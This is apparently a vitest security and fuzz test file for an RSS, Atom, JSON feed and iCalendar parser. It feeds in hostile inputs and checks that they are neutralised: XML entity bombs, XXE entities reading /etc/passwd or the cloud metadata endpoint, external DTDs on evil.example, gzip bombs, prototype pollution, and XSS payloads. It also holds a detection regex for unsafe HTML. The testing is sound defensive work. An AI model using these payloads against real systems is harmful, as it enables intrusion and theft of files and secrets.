import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { RundbriefError } from '../../../lambdas/domain/errors.ts';
import { readCalendar } from '../../../lambdas/ingest/calendars/read-calendar.ts';
import { decodeText } from '../../../lambdas/ingest/feeds/decode-text.ts';
import { parseDocument } from '../../../lambdas/ingest/feeds/parse-document.ts';
import { scanMarkup } from '../../../lambdas/ingest/feeds/scan-markup.ts';
import { suggestEvent } from '../../../lambdas/ingest/items/suggest-event.ts';
import { rss } from '../fixtures.ts';

const times = (text: string, count: number) => text.repeat(count);
const described = (description: string) => rss(`<title>ok</title><description>${description}</description>`);
const inCdata = (html: string) => described(`<![CDATA[${html}]]>`);

const HOSTILE: Record<string, Uint8Array | string> = {
  'a<h × 60,000': described(times('a<h', 60_000)),
  '180,000 <': described(times('<', 180_000)),
  'escaped tags that never end': described(times('&lt;a href=&quot;', 60_000)),
  'tags that never end': inCdata(times('<a href="', 100_000)),
  '100,000 nested elements in HTML': inCdata(times('<div>', 100_000)),
  '60,000 nested lists': inCdata(times('<ul><li>', 60_000)),
  'nested tables': inCdata(times('<table><tr><td>', 30_000)),
  'svg and style': inCdata(times('<svg><style>', 50_000)),
  'comments that never end': inCdata(times('<!--', 100_000)),
  'scripts that never end': inCdata(times('<script>', 60_000)),
  'ends of nothing': inCdata(times('</p>', 100_000)),
  'a style of 500 kB': inCdata(`<p style="${times('a:b;', 125_000)}">x</p>`),
  ampersands: described(times('&', 500_000)),
  'number signs': described(times('&#', 300_000)),
  'a reference of 500,000 digits': described(`&#${times('1', 500_000)};`),
  'a document type of brackets': `<!DOCTYPE rss ${times('[a] ', 50_000)}>${Buffer.from(described('x'))}`,
  'document types without end': `${times('<!DOCTYPE rss [', 50_000)}${Buffer.from(described('x'))}`,
  'a document type with an open quote': `<!DOCTYPE rss [<!ENTITY a "${times('b', 300_000)}${Buffer.from(described('x'))}`,
  'CDATA without end': described(times('<![CDATA[', 400_000)),
  'xhtml without end': `<feed xmlns="http://www.w3.org/2005/Atom">${times('<entry><content type="xhtml"><div>', 20_000)}`,
  '100,000 nested elements in XML': `<rss><channel>${times('<a>', 100_000)}${times('</a>', 100_000)}</channel></rss>`,
  '20,000 nested items': rss(times('<item>', 20_000)),
  'processing instructions': described(times('<?', 100_000)),
  '100,000 attributes': `<rss version="2.0"><channel><item ${times('a="b" ', 100_000)}/></channel></rss>`,
  'attributes without end': `<rss version="2.0"><channel><item ${times('a=" ', 100_001)}/></channel></rss>`,
  'a tag of blanks': `<rss version="2.0"><channel><item ${times(' ', 500_000)}a${times(' ', 500_000)}/></channel></rss>`,
  '20,000 namespaces': `<rss><channel>${Array.from({ length: 20_000 }, (_, i) => `<a${i}:b xmlns:a${i}="u:${i}"/>`).join('')}</channel></rss>`,
  'a title of 4 MB': rss(`<title>${times('x y ', 1_000_000)}</title>`),
  '100,000 categories': rss(`<title>x</title>${times('<category>a</category>', 100_000)}`),
  'deep JSON': `{"version":"https://jsonfeed.org/version/1","items":${times('[', 200_000)}`,
};

async function readAll(bytes: Uint8Array | string) {
  const document = await parseDocument(Buffer.from(bytes), { url: 'https://x.example/' });
  for (const item of document.items) expect(item.html).not.toMatch(UNSAFE);
  return document;
}

const BOMB = Array.from({ length: 9 }, (_, index) => {
  const name = (at: number) => String.fromCharCode(97 + at);
  return `<!ENTITY ${name(index)} "${index === 0 ? 'ha' : times(`&${name(index - 1)};`, 10)}">`;
}).join('');

const UNSAFE =
  /<\s*(script|style|iframe|form|svg|math|object|embed|link|meta|base)\b|<[^>]*\son\w+\s*=|<[^>]*(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i;

// Each takes tens of milliseconds; one quadratic or exponential step, and it takes longer than a test may.
describe('a hostile document ends soon, as articles or as one clear refusal', () => {
  it.each(Object.entries(HOSTILE))('%s', async (_, bytes) => {
    await readAll(bytes).catch((error) => expect(error).toBeInstanceOf(RundbriefError));
  });

  it('expands no entity of its own', async () => {
    const bomb = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>';
    const { items } = await readAll(bomb + Buffer.from(described('&b; and &c;')));
    expect(items[0]?.teaser).toBe('&b; and &c;');
  });

  it.each([
    { how: 'a thousand million laughs', subset: BOMB, used: '&i;' },
    { how: 'one long word, often', subset: `<!ENTITY a "${times('ha', 50_000)}">`, used: times('&a;', 5000) },
    { how: 'an entity of itself', subset: '<!ENTITY a "&a;">', used: '&a;' },
    { how: 'a file', subset: '<!ENTITY a SYSTEM "file:///etc/passwd">', used: '&a;' },
    { how: 'an address', subset: '<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">', used: '&a;' },
    { how: 'a parameter entity', subset: '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;', used: '&b;' },
    { how: 'a public one', subset: '<!ENTITY a PUBLIC "-//x" "file:///proc/self/environ">', used: '&a;' },
  ])('leaves what a document type declares as text: $how', async ({ subset, used }) => {
    const { items } = await readAll(`<?xml version="1.0"?><!DOCTYPE rss [${subset}]>${Buffer.from(described(used))}`);
    expect(items).toHaveLength(1);
    expect(items[0]?.html).toBe(used.replaceAll('&', '&amp;'));
  });

  it('includes nothing: a document type elsewhere, a style sheet, XInclude', async () => {
    const { items } = await readAll(
      `<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">${Buffer.from(
        described('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>ok'),
      )}`,
    );
    expect(items[0]?.teaser).toBe('ok');
  });

  it.each([
    { lie: 'UTF-16 over plain bytes', contentType: 'text/xml; charset=utf-16', title: 'Größe' },
    { lie: 'UTF-7, which nobody decodes', contentType: 'text/xml; charset=utf-7', title: 'Größe' },
    { lie: 'a name nobody knows', contentType: 'text/xml; charset=klingon', title: 'Größe' },
    { lie: 'a name of 100 kB', contentType: `text/xml; charset=${times('x', 100_000)}`, title: 'Größe' },
    { lie: 'Japanese', contentType: 'text/xml; charset=shift_jis', title: 'Größe' },
    { lie: 'ISO-2022-KR, whose escapes hide markup', contentType: 'text/xml; charset=iso-2022-kr', title: 'Größe' },
  ])('believes no label over its bytes: $lie', async ({ contentType, title }) => {
    const bytes = Buffer.from(rss(`<title>${title}</title>`));
    expect((await parseDocument(bytes, { url: 'https://x.example/', contentType })).items[0]?.title).toBe(title);
  });

  it('drops NUL, control characters and lone surrogates, written or referred to', async () => {
    const { items } = await readAll(
      rss(
        '<title>a\u0000b\u0001c\u001bd&#0;e&#x1;f&#8;g&#xD800;h&#xFFFF;i&#x110000;j</title><link>https://x.example/\u00001</link>',
      ),
    );
    expect(items[0]).toMatchObject({ title: 'abcdefghij', url: 'https://x.example/1' });
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'vbscript:x',
    ' \tjavascript:alert(1)',
    'http://',
    'ftp://x.example/',
  ])('has no address, picture or enclosure at %j', async (address) => {
    const { items } = await readAll(
      rss(`<title>x</title><link>${address}</link><guid isPermaLink="true">${address}</guid><comments>https://x.example/c</comments>
          <enclosure url="${address}" type="audio/mpeg"/><media:content xmlns:media="http://search.yahoo.com/mrss/" url="${address}" medium="image"/>
          <description><![CDATA[<a href="${address}">y</a><img src="${address}">]]></description>`),
    );
    expect(items[0]?.url ?? '').not.toMatch(/^(?!https?:\/\/)./);
    expect(items[0]).toMatchObject({ image: undefined, enclosures: [] });
    expect(items[0]?.html).not.toMatch(/javascript|data:|file:|vbscript|ftp:/);
  });

  it.each([
    ['&lt;script&gt;alert(1)&lt;/script&gt;Titel', 'Titel'],
    ['<![CDATA[<b onclick="x()">Titel</b>]]>', 'Titel'],
    ['<b>Ti</b>tel', 'Titel'],
    ['&lt;img src=x onerror=alert(1)&gt;Titel', 'Titel'],
    ['&amp;lt;script&amp;gt;', '<script>'],
    ['Titel\u202e\u2066 &#x202e;ende', 'Titel ende'],
  ])('has a title of plain text: %j', async (title, text) => {
    expect((await readAll(rss(`<title>${title}</title><guid>1</guid>`))).items[0]?.title).toBe(text);
  });

  it('keeps the newest 2,000 of 50,000 items, and looks at each piece once', async () => {
    const item = (number: number) =>
      `<item><guid>${number}</guid><title>${number}</title><pubDate>${day(number)}</pubDate></item>`;
    const feed = (count: number) =>
      `<rss version="2.0"><channel>${Array.from({ length: count }, (_, index) => item(index)).join('')}</channel></rss>`;
    const { items } = await readAll(feed(50_000));
    expect(items).toHaveLength(2000);
    expect([items[0]?.guid, items.at(-1)?.guid]).toEqual(['48000', '49999']);
    expect(piecesOf(feed(50_000)) / piecesOf(feed(5000))).toBeCloseTo(10, 1);
  });

  it.each(['<', '<a ', '<a b="', '<![CDATA[', '<!--', '<?x ', '<!DOCTYPE a [', '&', '</a>', '<a>'])(
    'grows no faster than its size: %j',
    (piece) => expect(piecesOf(times(piece, 20_000)) / piecesOf(times(piece, 2000))).toBeLessThan(11),
  );

  it('pollutes no prototype', async () => {
    await readAll(rss('<__proto__><polluted>yes</polluted></__proto__><constructor>x</constructor><title>x</title>'));
    await readAll(
      '{"version":"https://jsonfeed.org/version/1","title":"x","__proto__":{"polluted":1},"items":[{"id":"1"}]}',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('is not unpacked beyond the limit', async () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000, 'a'));
    await expect(readAll(bomb)).rejects.toMatchObject({ fault: 'invalid' });
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<svg/onload=alert(1)><p>x</p>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<style>@import "x"</style><p style="background:url(javascript:1)">x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<a href="//evil.example/x" target=_blank onclick=x()>x</a>',
  ])('comes out harmless: %s', async (html) => {
    const [item] = (await readAll(inCdata(html.replaceAll(']]>', '')))).items;
    expect(item?.html).not.toMatch(/<[^>]*(alert|target|srcdoc|onclick|onload|onerror)|<form|<input|<base|<meta/i);
    expect(item?.teaser).not.toContain('<img');
  });
});

/** How often the scanner reports something. */
function piecesOf(text: string): number {
  let count = 1;
  const one = () => {
    count += 1;
  };
  scanMarkup(text, { text: one, characters: one, open: one, close: one });
  return count;
}

const day = (number: number) => new Date(Date.UTC(2000, 0, 1) + number * 3_600_000).toUTCString();

describe('whatever comes', () => {
  const pieces = fc.constantFrom(
    ...[
      '<rss version="2.0">',
      '<channel>',
      '<item>',
      '</item>',
      '<title>',
      '</title>',
      '<link>',
      '</link>',
      '<feed>',
      '<entry>',
    ],
    ...[
      '<content type="xhtml">',
      '</content>',
      '<div>',
      '</div>',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '<?xml ',
      '?>',
      '<!DOCTYPE x [',
    ],
    ...[
      '&',
      '&amp;',
      '&#0;',
      '&#x80;',
      '&uuml;',
      '"',
      "'",
      '=',
      '<',
      '>',
      '/',
      'a',
      ' ',
      'ü',
      '\ud800',
      '\u0000',
      'xmlns:a="b"',
    ],
    ...[
      '<a:b',
      'xml:base="',
      'https://x.example/',
      'javascript:alert(1)',
      '<script>',
      '<img src=x onerror=y>',
      '<p',
      '{',
      '[',
    ],
  );

  it('parsing throws nothing but our own error, and no HTML comes out unsafe', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { maxLength: 60 }), fc.boolean(), async (parts, isFeed) => {
        const text = (isFeed ? '<rss version="2.0"><channel><item><title>x</title><description>' : '') + parts.join('');
        await readAll(text).catch((error) => expect(error).toBeInstanceOf(RundbriefError));
      }),
      { numRuns: 1500 },
    );
  });

  it('bytes of chance are read or refused', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ maxLength: 300 }),
        fc.constantFrom('', 'x; charset=iso-8859-1', 'x; charset=zz'),
        async (bytes, contentType) => {
          const parsing = parseDocument(bytes, { url: 'https://x.example/', contentType });
          await parsing.catch((error) => expect(error).toBeInstanceOf(RundbriefError));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('bytes of chance become well-formed text, whatever they are called', () => {
    const labels = fc.constantFrom(
      '',
      'utf-8',
      'utf-16',
      'shift_jis',
      'gb18030',
      'iso-2022-jp',
      'x-user-defined',
      'replacement',
      'klingon',
    );
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), labels, (bytes, label) => {
        try {
          expect(typeof decodeText(bytes, `text/xml; charset=${label}`)).toBe('string');
        } catch (error) {
          expect(error).toBeInstanceOf(RundbriefError);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('calendars are read or refused', () => {
    const lines = fc.constantFrom(
      ...[
        'BEGIN:VCALENDAR',
        'BEGIN:VEVENT',
        'END:VEVENT',
        'END:VCALENDAR',
        'BEGIN:VTIMEZONE',
        'TZID:a',
        'UID:1',
        'SUMMARY:x',
        ' fold',
      ],
      ...[
        'DTSTART:20260320T180000',
        'DTSTART;TZID=a:20260320T180000',
        'DTSTART;VALUE=DATE:20260320',
        'DTEND:20260101',
        'DURATION:P1D',
        'DURATION:-P9999W',
      ],
      ...[
        'RRULE:FREQ=DAILY',
        'RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30',
        'RRULE:FREQ=MONTHLY;BYDAY=5MO;BYSETPOS=-3',
        'RRULE:FREQ=WEEKLY;COUNT=99999999',
        'RRULE:;;=;FREQ',
      ],
      ...[
        'EXDATE:20260320T180000,x',
        'RDATE:20270101',
        'RECURRENCE-ID:20260320T180000',
        'STATUS:CANCELLED',
        'URL:javascript:1',
        'DESCRIPTION:<script>x</script>\\n',
        ';;;:::',
        'DTSTART',
        '',
      ],
    );
    fc.assert(
      fc.property(fc.array(lines, { maxLength: 40 }), fc.string({ maxLength: 40 }), (parts, noise) => {
        const text = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'DTSTART:20260320T180000', ...parts, noise].join('\r\n');
        try {
          const reading = {
            url: 'https://x.example/',
            timeZone: 'Europe/Berlin',
            now: new Date('2026-03-01T00:00:00Z'),
          };
          for (const item of readCalendar(Buffer.from(text), reading).items) expect(item.html).not.toMatch(UNSAFE);
        } catch (error) {
          expect(error).toBeInstanceOf(RundbriefError);
        }
      }),
      { numRuns: 1500 },
    );
  });

  it('an event is suggested or not, from any words', () => {
    const words = fc.constantFrom(
      ...[
        '20. März 2023',
        '20.03.2023',
        '31. Februar',
        '99.99.9999',
        'March 20',
        '18 bis 20 Uhr',
        '25:61',
        'am',
        'im',
        'Rathaus',
        'findet',
        'statt',
        'Ort:',
        'online',
      ],
      ...['\n', ', ', ' – ', '.', '„', '(', '20.', '2023', '0', '-', '🎉', '\u0000', 'ſ'],
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(words, fc.string({ maxLength: 8 })), { maxLength: 30 }),
        fc.option(fc.date({ noInvalidDate: true })),
        (parts, publishedAt) => {
          const event = suggestEvent(parts.join(' '), {
            timeZone: 'Europe/Berlin',
            publishedAt: publishedAt ?? undefined,
          });
          if (event) expect(Number.isNaN(event.startsAt.getTime())).toBe(false);
          if (event?.endsAt) expect(event.endsAt > event.startsAt).toBe(true);
        },
      ),
      { numRuns: 1000 },
    );
  });
});
